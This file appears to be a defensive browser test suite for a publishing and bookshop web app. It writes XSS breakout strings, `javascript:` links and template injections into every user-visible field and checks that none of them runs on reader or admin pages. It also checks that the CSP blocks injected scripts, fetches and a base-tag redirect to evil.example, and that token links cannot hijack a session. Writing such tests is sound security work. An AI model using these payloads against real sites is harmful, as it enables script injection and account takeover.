import { expectThat, type Area } from '../attack.ts'
import type { Client } from '../support/client.ts'
import { openBlank, withPage } from '../support/chromium.ts'
import { dataOf, formOf, madeBy, makeBook, makePost, orderOf, photo, place } from '../support/things.ts'
import type { Person, Target } from '../support/target.ts'

// Everything that people write, shown in Chromium with and without the pages' own Content-Security-Policy.

const payload = `"><img src=x onerror=hit()><script>hit()</script>`
const breakouts = [
  payload,
  `</title></style></textarea></script><svg onload=hit()>`,
  `'-hit()-'`,
  '{{hit()}}${hit()}',
  '\u2028hit()//',
]
/** What is left of a field whose length is limited. */
const nasty = (index: number): string => breakouts[index % breakouts.length]!

let written = 0
/** Fills everything that readers and editors see with scripts. @returns the ids that pages need */
async function writeEverywhere(target: Target): Promise<Record<string, string>> {
  const { client } = await target.owner()
  const image = await photo()
  const ids: Record<string, string> = {}
  written += 1
  const name = { en: `${payload.slice(0, 30)} en${written}`, ta: payload.slice(0, 50) }
  const flags = { isEditable: true, isAvailable: true, isInBanner: true, setHeader: false }
  ids.category = await madeBy(client, '/api/categories', { name, ...flags })
  for (const [index] of breakouts.entries()) {
    const words = { title: `T ${nasty(index)}`, subtitle: nasty(index), author: nasty(index) }
    const made = await makePost(target, {
      ...words,
      content: `<p>உரை ${nasty(index)}</p>`,
      category: index ? 'Poems' : name.en,
    })
    ids.post = made.id
    ids.slug = made.slug
    await client.call('titles.add', { postId: made.id })
    ids.book = (await makeBook(target, { name: nasty(index), author: nasty(index) })).id
    await dataOf(
      client.call('plans.create', { title: nasty(index), description: nasty(index), price: 100, durationInDays: 9 }),
    )
    ids.picture = await madeBy(
      client,
      '/api/gallery',
      formOf({ title: nasty(index), content: nasty(index) }, { image }),
    )
  }
  await client.call('books.update', { id: ids.book, description: payload })
  const texts = { ta: `<p>${payload}</p>`, en: `<p>${payload}</p>` }
  await client.call('about.save', { text: texts, ...texts })
  const { slug } = target.sql('SELECT slug FROM categories WHERE id = ?', ids.category)[0] as { slug: string }
  ids.categorySlug = slug
  return ids
}

async function writeAsReader(target: Target): Promise<{ reader: Person; orderId: string }> {
  const reader = await target.person('reader', payload.slice(0, 90))
  const contact = { name: payload.slice(0, 90), email: reader.email, message: breakouts.join('\n') }
  await dataOf(target.nobody().call('contact.send', contact))
  const placed = await place(reader, {
    ...orderOf(await makeBook(target, { name: 'நிலம்' })),
    ...{ name: payload.slice(0, 90), phone: '98400 00000', address: payload },
  })
  const { order } = placed.body.result.data as { order: { id: string } }
  const { client } = await target.owner()
  await dataOf(
    client.call('notifications.send', {
      ...{
        title: payload,
        message: breakouts.join('\n'),
        link: '/home?a="><script>hit()</script>'.replaceAll(' ', ''),
      },
      target: { kind: 'people', userIds: [reader.id] },
    }),
  )
  await target.settled()
  return { reader, orderId: order.id }
}

/** Visits pages with the policy off and on. @returns how many were visited */
async function expectNothingRuns(
  target: Target,
  paths: string[],
  signIn?: (client: Client) => Record<string, string>,
): Promise<number> {
  const stored = signIn?.(target.nobody()) ?? {}
  for (const bypassCSP of [true, false])
    await withPage({ bypassCSP, baseURL: target.url }, async (page, hits) => {
      await openBlank(page, target.url)
      await page.evaluate(
        (entries) => Object.entries(entries).forEach(([key, value]) => localStorage.setItem(key, value)),
        stored,
      )
      for (const path of paths) {
        const response = await page.goto(path, { waitUntil: 'load' })
        expectThat((response?.status() ?? 500) < 500, `${path}: ${response?.status()}`)
        await page.waitForSelector('[data-interactive]', { state: 'attached', timeout: 15_000 }).catch(() => undefined)
        await page.waitForLoadState('networkidle', { timeout: 5000 }).catch(() => undefined)
        const alien = await page.locator('img[src="x"], [onerror], [onload], svg[onload]').count()
        expectThat(
          hits.length === 0 && alien === 0,
          `${path}, policy ${bypassCSP ? 'off' : 'on'}: ${hits.length} hits, ${alien} elements`,
        )
      }
    })
  return paths.length * 2
}

export const browser: Area = {
  name: 'browser',
  variables: async () => ({ RATE_LIMIT: '0' }),
  tries: {
    'no title, name, query or path runs a script on readers’ pages, without the policy and with it': async (target) => {
      const ids = await writeEverywhere(target)
      const q = encodeURIComponent(payload)
      const paths = [
        ...[
          '/home',
          '/recentposts',
          '/poems',
          `/${encodeURIComponent(ids.categorySlug!)}`,
          `/posts/${ids.post}/${encodeURIComponent(ids.slug!)}`,
        ],
        ...[
          '/shop',
          `/shop/${ids.book}`,
          `/shop?q=${q}`,
          '/subscriptions',
          '/bluethoughts',
          `/bluethoughts/${ids.picture}`,
          '/about',
        ],
        ...[
          `/search?q=${q}`,
          `/search?q=hit&category=${q}&author=${q}`,
          '/search?q=onerror',
          `/${q}`,
          `/posts/${q}`,
          `/login?error=${q}`,
        ],
        ...[
          `/auth/login?to=${q}`,
          `/login?to=javascript:hit()`,
          '/archive',
          '/editorial',
          `/babasahebspeaks?q=${q}`,
          `/home?${q}=${q}#${q}`,
        ],
      ]
      return `${await expectNothingRuns(target, paths)} visits, 0 ran`
    },

    'nothing that a reader writes runs on the pages of the admin or of readers, without the policy': async (target) => {
      const { reader, orderId } = await writeAsReader(target)
      await writeEverywhere(target)
      const owner = await target.owner()
      const q = encodeURIComponent(payload)
      const desk = [
        ...[
          '/admin/dashboard',
          '/admin/orders',
          `/admin/orders/${orderId}/slip`,
          `/admin/orders?q=${q}`,
          '/admin/messages',
          '/admin/mails',
        ],
        ...[
          '/admin/notifications',
          '/admin/notifications/view',
          '/admin/notifications/send',
          '/admin/newsletter',
          '/admin/books',
          '/admin/categories',
        ],
        ...[
          '/admin/universal',
          '/admin/premium-articles',
          '/admin/news-title',
          '/admin/subscription-plans',
          '/admin/recent-posts',
          '/admin/banners',
        ],
      ]
      const own = [
        '/profile',
        '/notifications',
        '/orders',
        `/orders/${orderId}`,
        '/cart',
        '/checkout',
        '/settings/account',
        '/bookmarks',
        '/following',
      ]
      const asAdmin = () => ({ token: owner.token, userId: owner.id, userName: owner.name })
      const asReader = () => ({ clientToken: reader.token, userId: reader.id, userName: reader.name })
      const visits = (await expectNothingRuns(target, desk, asAdmin)) + (await expectNothingRuns(target, own, asReader))
      return `${visits} visits, shown as text`
    },

    'the policy of a page stops scripts in it, and calls to other hosts': async (target) => {
      await makePost(target)
      return withPage({ baseURL: target.url }, async (page, hits) => {
        const seen: string[] = []
        for (const path of ['/home', '/search?q=a', '/login', '/admin/dashboard', '/nowhere']) {
          await page.goto(path, { waitUntil: 'load' })
          const violations = await page.evaluate(async () => {
            const blocked: string[] = []
            document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
              blocked.push(effectiveDirective),
            )
            const script = document.createElement('script')
            script.textContent = 'window.hit()'
            document.body.append(script)
            const box = document.createElement('div')
            document.body.append(box)
            box.innerHTML =
              '<img src="/none" onerror="window.hit()"><a id="attack" href="javascript:window.hit()">x</a><form action="https://evil.example/" id="attack-form"></form>'
            box.querySelector('a')!.click()
            const isFetched = await fetch('https://evil.example/').then(
              () => true,
              () => false,
            )
            const external = document.createElement('script')
            external.src = 'https://evil.example/x.js'
            document.body.append(external)
            const base = document.createElement('base')
            base.href = 'https://evil.example/'
            document.head.append(base)
            await new Promise((resolve) => setTimeout(resolve, 500))
            return { blocked, isFetched, isMoved: document.baseURI.includes('evil') }
          })
          const needed = ['script-src-elem', 'script-src-attr', 'connect-src']
          const missing = needed.filter((name) => !violations.blocked.includes(name))
          expectThat(
            hits.length === 0 && !violations.isFetched && !violations.isMoved && missing.length === 0,
            `${path}: ${JSON.stringify(violations)}, ${hits.length} hits`,
          )
          seen.push(`${path} ${new Set(violations.blocked).size}`)
        }
        return `blocked: ${seen.join(', ')}`
      })
    },

    'a link with a token does not put a reader into another’s account': async (target) => {
      const [victim, attacker] = [await target.person(), await target.person()]
      return withPage({ baseURL: target.url }, async (page) => {
        await openBlank(page, target.url)
        await page.evaluate(
          ({ token, id, name }) => {
            localStorage.setItem('clientToken', token)
            localStorage.setItem('userId', id)
            localStorage.setItem('userName', name)
          },
          { token: victim.token, id: victim.id, name: victim.name },
        )
        const links = [
          `/login?token=${attacker.token}&uid=${attacker.id}`,
          `/login?token=${attacker.token}&uid=${attacker.id}#done`,
          '/login#done',
        ]
        for (const link of links) {
          await page.goto(link, { waitUntil: 'load' })
          await page.waitForLoadState('networkidle', { timeout: 8000 }).catch(() => undefined)
          const token = await page.evaluate(() => localStorage.getItem('clientToken'))
          expectThat(
            token === victim.token,
            `${link.slice(0, 20)}: ${token === attacker.token ? 'in the attacker’s account' : token}`,
          )
        }
        const alone = await target.nobody().send('GET', links[0]!)
        expectThat(!alone.text.includes(attacker.token), 'the page repeats the token')
        return `${links.length} links; still the victim’s own session`
      })
    },
  },
}
